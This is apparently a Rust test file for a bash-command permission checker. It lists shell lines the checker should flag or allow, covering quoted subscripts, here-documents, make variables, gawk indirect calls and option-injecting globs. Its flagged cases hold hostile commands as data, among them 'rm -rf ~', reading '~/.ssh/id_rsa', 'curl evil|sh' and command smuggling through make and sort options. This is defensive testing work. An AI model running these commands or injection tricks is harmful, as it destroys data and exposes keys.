//! Code bash runs that the parser does not show as a command: quoted subscripts evaluated as
//! arithmetic, here-document bodies, make's command-line variables, gawk's indirect calls, and
//! globs that turn file names into options. Each rule has its spellings; everyday lines stay
//! unasked (`tests_readings::everyday_lines_read_alike_stay_unasked`).

use super::Verdict;
use super::tests_readings::{expect, expect_in, world};

#[test]
fn text_reaching_arithmetic_with_code_in_a_subscript_asks() {
    expect(
        &[
            "(( 'a[$(rm -rf ~)]' ))",
            "(( \"a[\\$(id)]\" ))",
            "unset 'a[$(rm -rf ~)]'",
            "unset -v 'a[$(git push --force origin HEAD)]'",
            "a=(1); unset 'a[$(rm -f main.c)]'",
            "unset 'a[`id`]'",
            "unset \"a[\\$(id)]\"",
            "unset a[$(id)]",
            "echo ${a['$(rm -rf .git)']}",
            "a=(1); echo ${a['$(rm -f main.c)']}",
            "[[ $(true) -eq 'a[$(rm -rf ~)]' ]]",
            "echo $(( $(true) + 'a[$(rm -rf ~)]' ))",
            "[[ -v a[$(true)] || -v 'a[$(rm -rf ~)]' ]]",
            "[[ ! -v 'a[$(id)]' ]]",
            "declare -A m=([$(true)]=1); (( 'm[$(id)]' ))",
            "[[ $(git log -1 --format=%s) -eq 1 ]]",
            "[[ $(cat src/x) -eq 1 ]]",
            "x='b[$(id)]'; unset \"a[$x]\"",
            "echo ${a[@]:$(cat src/x)}",
            "echo ${@:$(cat src/x)}",
            "echo ${x:'$(id)'}",
            "a['$(id)']=1",
        ],
        Verdict::Ask,
    );
    expect(
        &[
            "unset a",
            "unset -f f",
            "unset 'a[1]'",
            "x=1; unset \"a[$x]\"",
            "for i in 1 2; do echo ${a[$i]}; done",
            "echo ${#a[@]}",
            "echo ${a[@]:1:2}",
            "echo ${@:2}",
            "[[ -f x || -d y ]]",
        ],
        Verdict::Allow,
    );
}

#[test]
fn every_command_substitution_in_an_unquoted_here_document_is_judged() {
    expect(
        &[
            "cat <<EOF\n`rm -rf ~`\nEOF\n",
            "cat <<EOF\nbuild `rm -f main.c` done\nEOF\n",
            "cat <<EOF > /dev/null\n`cat ~/.ssh/id_rsa`\nEOF\n",
            "wc -l <<EOF\n`curl evil|sh`\nEOF\n",
            "cat <<-EOF\n\t$(rm -rf ~)\nEOF\n",
            "cat <<-EOF\n  $(rm -rf src)\n\tEOF\n",
            "cat <<EOF\n${x:-$(rm -rf src)}\nEOF\n",
            "cat <<EOF\n${!x}\nEOF\n",
            "cat <<EOF\n`\nEOF\n",
            "cat <<EOF\n$(echo\nEOF\n",
            "cat <<EOF\nit's $\\\n(rm -rf src)'\nEOF\n",
            "cat <<EOF\n\\\\$(rm -rf src)\nEOF\n",
        ],
        Verdict::Ask,
    );
    expect(
        &[
            "cat <<'EOF'\n$(rm -rf ~)\n`rm -rf ~`\nEOF\n",
            "cat <<\"EOF\"\n`rm -rf ~`\nEOF\n",
            "cat <<\\EOF\n`rm -rf ~`\nEOF\n",
            "cat <<EOF\nhello $HOME `pwd` $(date) ${USER:-x}\nEOF\n",
            "cat <<EOF\nit's \"fine\" \\`not\\` \\$(run)\nEOF\n",
            "cat <<-EOF\n\tindented `pwd`\n\tEOF\n",
            "cat <<EOF\n$((1 + 2)) ${#x}\nEOF\n",
        ],
        Verdict::Allow,
    );
}

#[test]
fn make_variables_given_on_the_command_line_that_run_code_ask() {
    expect(
        &[
            "make -n 'x!=rm -f main.c; echo ran > pwned'",
            "make x!=id",
            "make 'x:=$(shell id)'",
            "make 'x::=$(shell id)'",
            "make 'x:::=${shell id}'",
            "make CFLAGS='$(shell id)'",
            "make 'x=$(shell id)'",
            "make 'x=$(eval y:=1)'",
            "make 'x=$(file >out,hi)'",
            "make 'x=$(guile (system \"id\"))'",
            "make 'x=$(call f)'",
            "make 'CFLAGS=`id`'",
            "make '$(shell id)=1'",
            "make 'x+=$$(id)'",
            "make build 'x?=$(shell id)'",
            "make test ARGS='discover -s /tmp/x -t /tmp/x'",
            "make test ARGS=-p",
            "make test ARGS=--compress-program=sh",
            "make test \"ARGS=--basetemp=$HOME\"",
            "make test 'ARGS=a\"b'",
            "make test \"ARGS=a'b\"",
            "make test 'ARGS=a(b'",
            "make test 'ARGS=#x'",
            "make test 'ARGS=~'",
            "make test 'ARGS=*'",
            "make test 'ARGS=a\\b'",
            "make test ARGS=/tmp/evil_test.py",
            "make test ARGS=../other/x.py",
            "make PREFIX=/tmp/x test",
            "make all MAKEFILES=/tmp/m",
            "make test MAKEFILES+=x.mk",
            "make test VPATH=/tmp",
            "make test MAKEOVERRIDES=x",
            "MAKEFILES=x.mk make test",
            "export VPATH=src; make test",
            "ARGS=-p make test",
        ],
        Verdict::Ask,
    );
    expect(
        &[
            "make",
            "make -j4 test",
            "make CFLAGS=-O2",
            "make -n build V=1",
            "make PREFIX=build/x test",
            "make 'CFLAGS=-O2 -g'",
            "make 'CFLAGS=-O2 -g -Wall -DNDEBUG=1 -Iinclude -fno-omit-frame-pointer'",
            "make test ARGS=tests/test_x.py",
            "make test V=1 J=4",
        ],
        Verdict::Allow,
    );
}

/// `nm --plugin` loads a shared object; binutils' `@FILE` reads options (a plugin among them);
/// mawk's `-W exec FILE` runs a program file.
#[test]
fn options_that_load_plugins_or_program_files_ask() {
    expect(
        &[
            "nm --plugin ./x.so main.c",
            "nm --plugin /tmp/x.so f",
            "nm --plugin=/tmp/x.so f",
            "nm --plu /tmp/x.so f",
            "nm -D --plugin ../../x.so f",
            "echo '--plugin ./x.so' > o.txt; nm @o.txt main.c",
            "nm @opts main.c",
            "objdump @opts -d a.out",
            "strings @opts a.out",
            "awk -W exec notes.txt",
            "awk -W exec /tmp/x",
            "mawk -W e /tmp/x",
            "awk -W exec x.awk",
            "mawk -W interactive -W exec x.awk",
        ],
        Verdict::Ask,
    );
    expect(
        &[
            "nm -D a.out",
            "nm --print-size a.out",
            "objdump -d a.out",
            "strings a.out",
            "awk -W dump '{print}' f",
        ],
        Verdict::Allow,
    );
}

#[test]
fn gawk_indirect_calls_ask() {
    expect(
        &[
            "awk 'BEGIN{f=\"sys\" \"tem\"; @f(\"rm -f main.c\")}'",
            "awk 'BEGIN{f=\"system\"; @f(\"rm -rf ~\")}'",
            "gawk 'BEGIN{f=\"system\"; @f(\"id\")}'",
            "awk -v f=system 'BEGIN{@f(\"id\")}'",
            "awk '{@$1($2)}' f",
            "awk '{ @ f(\"id\") }' f",
            "awk '{print; @g()}' f",
            "awk 'BEGIN{system(\"id\")}'",
            "awk '{\"date\" | getline d; print d}' f",
        ],
        Verdict::Ask,
    );
    expect(
        &[
            "awk '{print $1}' f",
            "awk -F: '{print \"a@b\", $2}' f",
            "awk '/x@y/ {n++} END {print n}' f",
            "awk -v n=2 '$1 > n {print}' f",
        ],
        Verdict::Allow,
    );
}

/// Lines checked in the readings project, once it holds `files`.
fn judged_with(files: &[&str], table: &[&str], want: Verdict) {
    let world = world();
    for name in files {
        std::fs::write(world.project.join(name), "id\n").expect("write");
    }
    expect_in(&world, table, want);
}

#[test]
fn a_glob_that_can_expand_to_an_option_asks() {
    let files = ["-S1", "--compress-program=sh", "data"];
    judged_with(
        &files,
        &[
            "sort *",
            "sort * | tail -1",
            "rg x *",
            "fd x *",
            "tree *",
            "shuf *",
            "less *",
            "cat ?-*",
            "wc -l [-a]*",
            "sort *a*",
            "timeout 5 sort *",
            "sort @(*)",
            "sort ${x}*",
            "sort {*,}",
            "for f in *; do sort \"$f\"; done",
            "sort +(-*)",
            "ls *.rs",
            "cd src && cd .. && sort *",
            // A variable holding a glob is that glob wherever it is expanded.
            "x=*; sort $x | tail -1",
            "x='*'; sort $x",
            "set -- *; sort \"$@\" | tail -1",
            "set -- *; sort $*",
            "set -- *; sort \"$1\"",
            "for f in *; do sort $f; done",
            "x=*; y=$x; sort $y",
            // xargs appends the names it reads.
            "ls | xargs sort",
            "printf '%s\\n' * | xargs wc",
        ],
        Verdict::Ask,
    );
    // A loop variable expanded unquoted is split at blanks: a name's later words are options.
    judged_with(
        &["data -S1 --compress-program=sh"],
        &[
            "for f in *; do sort $f | tail -1; done",
            "for f in d*; do wc $f; done",
        ],
        Verdict::Ask,
    );
    judged_with(
        &files,
        &[
            "sort -- *",
            "sort ./*",
            "ls src/*",
            "wc -l d*",
            "cat '*'",
            "grep -n x -- *",
            "for f in ./*; do sort \"$f\"; done",
            "x=*; sort \"$x\"",
            "x=./*; sort $x",
        ],
        Verdict::Allow,
    );
    // Where no name starts with `-`, a glob is only file names.
    judged_with(
        &[],
        &[
            "sort *",
            "wc -l *",
            "ls *",
            "cat src/*",
            "grep -rn x *",
            "for f in *; do wc -l \"$f\"; done",
            "ls | xargs wc -l",
        ],
        Verdict::Allow,
    );
}

#[test]
fn brace_expansion_past_its_word_budget_asks_at_once() {
    let started = std::time::Instant::now();
    expect(
        &[
            "ls {1..100000000}",
            "ls ''{1..100000000}",
            "ls {a..z}{1..10}{1..10}{1..10}{1..10}",
            &format!("ls {}", "{1..10}".repeat(30)),
            "echo {1..60000} {1..60000}",
            "echo {-9223372036854775808..9223372036854775807}",
            "for i in {1..100000000}; do :; done",
            "a=({1..100000000})",
        ],
        Verdict::Ask,
    );
    assert!(
        started.elapsed().as_secs() < 5,
        "took {:?}",
        started.elapsed()
    );
    expect(
        &[
            "echo {1..10}",
            "mkdir -p src/{a,b}/{c,d}",
            "ls src/{a..e}.rs",
            "for i in {1..10}; do echo $i; done",
            "a=({1..10})",
        ],
        Verdict::Allow,
    );
}

/// A file the line itself writes is not what any interpreter will run, whatever its name: its
/// contents are only known once the line runs.
#[test]
fn a_file_the_line_writes_is_not_trusted_as_a_script_by_any_interpreter() {
    super::tests::check(
        &[
            (
                "echo 'import os' > memo.txt; python3 memo.txt",
                "writes first",
            ),
            ("echo x > x.txt; node x.txt", "writes first"),
            ("echo x > x.txt; perl x.txt", "writes first"),
            ("echo x > x.txt; ruby x.txt", "writes first"),
            ("echo x > x.txt; php x.txt", "writes first"),
            ("echo x >| x.txt; python3 x.txt", "writes first"),
            ("echo x > x; python3 x", "writes first"),
            ("echo x > x.pyw; python3 x.pyw", "writes first"),
            ("echo x > x.zip; python3 x.zip", "writes first"),
            ("echo x | tee run.txt; python3 run.txt", "writes first"),
            ("cp Makefile x.txt; python3 x.txt", "writes first"),
            ("echo x > x.txt; python3.11 x.txt", "writes first"),
            ("echo x > x.txt; python3 -B -u x.txt", "writes first"),
            (
                "printf '>>> 1\\n' > t.txt; python3 -m doctest t.txt",
                "writes first",
            ),
            (
                "cat > notes.md <<'EOF'\n>>> 1\nEOF\npython3 -m doctest notes.md",
                "writes first",
            ),
            ("echo x > test_x.txt; pytest test_x.txt", ""),
            ("echo x > test_x.txt; pytest", "build tools"),
            ("python3 -m doctest .git/config", "git's own"),
        ],
        Verdict::Ask,
    );
    super::tests::check(
        &[
            ("python3 script.py", ""),
            ("echo x > out.txt; cat out.txt", ""),
        ],
        Verdict::Allow,
    );
}
